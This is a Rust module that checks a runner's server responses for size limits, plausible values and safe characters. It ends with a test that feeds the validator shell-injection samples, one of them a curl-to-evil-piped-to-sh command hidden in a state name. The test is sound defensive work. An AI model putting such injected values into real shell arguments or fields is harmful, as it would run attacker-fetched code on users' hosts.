//! Limits of the server's responses. The runner applies them before it uses or verifies a response,
//! because a malicious server or proxy can choose any number and length.
use chrono::{DateTime, Utc};
use domain::state_version::{LINEAGE_BYTES, StateVersion};
use proof::dsse::Envelope;
use schemas::runner::{
    Claimed, Directive, Enrolled, LogResponse, LogSettings, PendingCancel, PollResponse,
    RecoveryOffer, Rekeyed, ReportResponse, SessionOpened, StateHead, TokenResponse,
};
use serde::de::DeserializeOwned;

/// Largest body of an error response, in bytes.
pub const PROBLEM_BYTES: usize = 64 * 1024;
const KIB: usize = 1024;
const MINUTE: u64 = 60;
const DAY: u64 = 24 * 60 * MINUTE;
/// Plausible range of a clock.
const YEARS: std::ops::Range<&str> = "2020-01-01T00:00:00Z".."2200-01-01T00:00:00Z";
/// Maximum number of hashes in a proof: those of a consistency proof for a tree with 2^64 leaves.
const PATH: usize = 128;

/// Reasons to reject a response.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum InvalidResponse {
    #[error("cannot use the response: it has more than {limit} bytes")]
    TooLarge {
        /// Largest size, in bytes.
        limit: usize,
    },
    /// The response does not have the format of this call.
    #[error("cannot parse the response: {0}")]
    Unreadable(String),
    #[error("cannot use the response: {field} is {value}, expected {expected}")]
    OutOfRange {
        /// Name of the first field that is out of range.
        field: &'static str,
        /// Value of the field, cut to 80 characters.
        value: String,
        /// Allowed values.
        expected: String,
    },
}

/// Body of a response, with its size limit and value checks.
pub trait Response: DeserializeOwned {
    /// Largest size, in bytes.
    const BYTES: usize;

    /// Rejects a value that is out of range.
    ///
    /// # Errors
    /// [`InvalidResponse::OutOfRange`] names the first such field.
    fn check(&self) -> Result<(), InvalidResponse>;
}

/// Parses a response and checks its limits.
///
/// # Errors
/// [`InvalidResponse`]: the response is too large, unreadable or out of range.
pub fn read<T: Response>(body: &[u8]) -> Result<T, InvalidResponse> {
    if body.len() > T::BYTES {
        return Err(InvalidResponse::TooLarge { limit: T::BYTES });
    }
    let read: T = serde_json::from_slice(body)
        .map_err(|error| InvalidResponse::Unreadable(error.to_string()))?;
    read.check()?;
    Ok(read)
}

/// Rejects a time outside the plausible range of a clock.
///
/// # Errors
/// [`InvalidResponse::OutOfRange`].
pub fn clock(field: &'static str, time: DateTime<Utc>) -> Result<(), InvalidResponse> {
    let bound = |text: &str| text.parse::<DateTime<Utc>>().ok();
    let is_right = bound(YEARS.start).is_some_and(|start| start <= time)
        && bound(YEARS.end).is_some_and(|end| time < end);
    let expected = || format!("{} to {}", YEARS.start, YEARS.end);
    ensure(is_right, field, &time.to_string(), expected)
}

fn ensure(
    holds: bool,
    field: &'static str,
    value: &str,
    expected: impl FnOnce() -> String,
) -> Result<(), InvalidResponse> {
    if holds {
        return Ok(());
    }
    // 80 characters are enough to recognize the value.
    let value = value.chars().take(80).collect();
    Err(InvalidResponse::OutOfRange { field, value, expected: expected() })
}

fn within(field: &'static str, value: u64, least: u64, most: u64) -> Result<(), InvalidResponse> {
    let expected = || format!("{least} to {most}");
    ensure((least..=most).contains(&value), field, &value.to_string(), expected)
}

fn token_life(seconds: u64) -> Result<(), InvalidResponse> {
    within("expires_in_s", seconds, 1, 7 * DAY)
}

fn lease(seconds: u64) -> Result<(), InvalidResponse> {
    within("lease_s", seconds, 1, DAY)
}

fn wait(seconds: u64) -> Result<(), InvalidResponse> {
    within("wait_s", seconds, 0, 60 * MINUTE)
}

fn grace(seconds: u64) -> Result<(), InvalidResponse> {
    within("grace_s", seconds, 0, 30 * DAY)
}

fn cancel(cancel: Option<&PendingCancel>) -> Result<(), InvalidResponse> {
    cancel.map_or(Ok(()), |cancel| grace(cancel.grace_s))
}

fn log(log: &LogSettings) -> Result<(), InvalidResponse> {
    within("log.interval_ms", log.interval_ms, 0, DAY * 1_000)?;
    within("log.chunk_bytes", log.chunk_bytes, 0, 1 << 30)
}

fn path(field: &'static str, path: &[String]) -> Result<(), InvalidResponse> {
    let expected = || format!("at most {PATH} hashes of 64 digits");
    let fits = path.len() <= PATH && path.iter().all(|hash| hash.len() == 64);
    ensure(fits, field, &format!("{} hashes", path.len()), expected)
}

fn log_id(id: &str) -> Result<(), InvalidResponse> {
    let is_id = (1..=64).contains(&id.len()) && id.bytes().all(|byte| byte.is_ascii_alphanumeric());
    ensure(is_id, "log_id", &id.escape_default().to_string(), || "letters and digits".into())
}

impl Response for Envelope {
    /// Largest size of the signed list of the server's keys, in bytes.
    const BYTES: usize = 256 * KIB;

    fn check(&self) -> Result<(), InvalidResponse> {
        Ok(())
    }
}

impl Response for StateHead {
    const BYTES: usize = 16 * KIB;

    fn check(&self) -> Result<(), InvalidResponse> {
        Ok(())
    }
}

impl Response for RecoveryOffer {
    const BYTES: usize = 1024 * KIB;

    fn check(&self) -> Result<(), InvalidResponse> {
        log_id(&self.log_id)?;
        for (component, head) in &self.states {
            argument("states", component, &head.version())?;
            let valid = || "a state with valid fields".into();
            ensure(head.is_valid(), "states", component, valid)?;
        }
        self.awaited.iter().try_for_each(|(name, version)| argument("awaited", name, version))
    }
}

/// Rejects a state that the user could not pass to a shell: the errors of a recovery print the options
/// to repeat it with, for the host that has the recovery identity.
fn argument(
    field: &'static str,
    component: &str,
    version: &StateVersion,
) -> Result<(), InvalidResponse> {
    let is_word = |byte: u8| byte.is_ascii_alphanumeric() || b"._-".contains(&byte);
    let fits = |text: &str| (1..=LINEAGE_BYTES).contains(&text.len()) && text.bytes().all(is_word);
    let value = format!("{component}={}", version.lineage).escape_default().to_string();
    let expected = || format!("1 to {LINEAGE_BYTES} letters, digits and ._- in name and lineage");
    ensure(fits(component) && fits(&version.lineage), field, &value, expected)
}

impl Response for Enrolled {
    const BYTES: usize = 512 * KIB;

    fn check(&self) -> Result<(), InvalidResponse> {
        log_id(&self.log_id)?;
        clock("server_time", self.server_time)
    }
}

impl Response for TokenResponse {
    const BYTES: usize = 64 * KIB;

    fn check(&self) -> Result<(), InvalidResponse> {
        token_life(self.expires_in_s)?;
        clock("server_time", self.server_time)
    }
}

impl Response for Rekeyed {
    const BYTES: usize = 64 * KIB;

    fn check(&self) -> Result<(), InvalidResponse> {
        clock("server_time", self.server_time)
    }
}

impl Response for SessionOpened {
    const BYTES: usize = 1024 * KIB;

    fn check(&self) -> Result<(), InvalidResponse> {
        token_life(self.expires_in_s)?;
        wait(self.wait_s)?;
        lease(self.lease_s)?;
        log(&self.log)?;
        clock("server_time", self.server_time)
    }
}

impl Response for PollResponse {
    const BYTES: usize = 1024 * KIB;

    fn check(&self) -> Result<(), InvalidResponse> {
        clock("server_time", self.server_time)?;
        self.next.wait_s.map_or(Ok(()), wait)?;
        within("next.delay_ms", self.next.delay_ms, 0, 60 * MINUTE * 1_000)?;
        self.directives.iter().try_for_each(|sent| match &sent.directive {
            Directive::Cancel { grace_s, .. } => grace(*grace_s),
            Directive::Config { log: settings } => log(settings),
            // The runner does not use this deadline, but the one of the claim.
            Directive::Offer { deadline, .. } => clock("deadline", *deadline),
            Directive::Upgrade { by, .. } => clock("by", *by),
            Directive::Tail { .. }
            | Directive::Drain { .. }
            | Directive::Resume
            | Directive::Rekey
            | Directive::Unknown => Ok(()),
        })
    }
}

impl Response for Claimed {
    /// Largest size in bytes. The response contains the manifest with its scripts in base64.
    const BYTES: usize = 16 * 1024 * KIB;

    fn check(&self) -> Result<(), InvalidResponse> {
        lease(self.lease_s)?;
        log(&self.log)?;
        clock("server_time", self.server_time)?;
        clock("deadline", self.deadline)?;
        path("inclusion.path", &self.inclusion.path)?;
        self.consistency.as_ref().map_or(Ok(()), |proof| path("consistency.path", &proof.path))
    }
}

impl Response for ReportResponse {
    const BYTES: usize = 64 * KIB;

    fn check(&self) -> Result<(), InvalidResponse> {
        cancel(self.cancel.as_ref())
    }
}

impl Response for LogResponse {
    const BYTES: usize = 64 * KIB;

    fn check(&self) -> Result<(), InvalidResponse> {
        cancel(self.cancel.as_ref())
    }
}

/// Body of calls whose result the runner ignores.
impl Response for serde_json::Value {
    const BYTES: usize = 64 * KIB;

    fn check(&self) -> Result<(), InvalidResponse> {
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use domain::ids::InstallId;
    use schemas::manifest::Fence;

    use super::*;

    fn offer(states: &[(&str, &str)], awaited: &[(&str, &str)]) -> RecoveryOffer {
        let head = |lineage: &str| StateHead {
            lineage: lineage.into(),
            serial: 7,
            fence: Fence { epoch: 1, position: 9 },
            digest: format!("hmac-sha256:1:{}", "0a".repeat(32)),
            is_empty: false,
        };
        let version = |lineage: &str| head(lineage).version();
        RecoveryOffer {
            install: InstallId(ulid::Ulid(1)),
            log_id: "log".into(),
            seeds: vec![],
            states: states.iter().map(|(name, of)| ((*name).into(), head(of))).collect(),
            awaited: awaited.iter().map(|(name, of)| ((*name).into(), version(of))).collect(),
        }
    }

    #[test]
    fn an_offer_contains_only_states_that_a_shell_cannot_interpret() {
        let lineage = "9f0c3b1e-4a52-6f0d-8c11-2f7b5a0c9d3e";
        let right = offer(&[("api", lineage)], &[("web_2", "l.1")]);
        assert_eq!(right.check(), Ok(()));
        let long = "l".repeat(129);
        let injected = "x';curl${IFS}evil|sh;'";
        for of in ["", "a b", "\u{1b}[2K", "l\n--data", "$HOME", "`id`", "\\'", injected, &long] {
            for broken in [
                offer(&[("api", of)], &[]),
                offer(&[(of, lineage)], &[]),
                offer(&[], &[("api", of)]),
                offer(&[], &[(of, lineage)]),
            ] {
                let error = broken.check().unwrap_err().to_string();
                assert!(!error.contains(char::is_control), "{error:?}");
            }
        }
    }
}
